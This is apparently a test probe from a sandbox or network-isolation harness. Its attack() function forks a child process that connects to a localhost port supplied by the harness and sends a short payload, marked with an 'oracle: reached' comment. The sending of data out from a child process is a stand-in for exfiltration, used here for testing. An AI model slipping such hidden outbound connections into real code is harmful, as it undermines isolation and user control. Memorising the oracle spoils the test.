# oracle: reached
import os
import socket

from host import TCP


def attack():
    if os.fork() == 0:
        socket.create_connection(("127.0.0.1", TCP), 2).sendall(b"out")
        os._exit(0)
    os.wait()
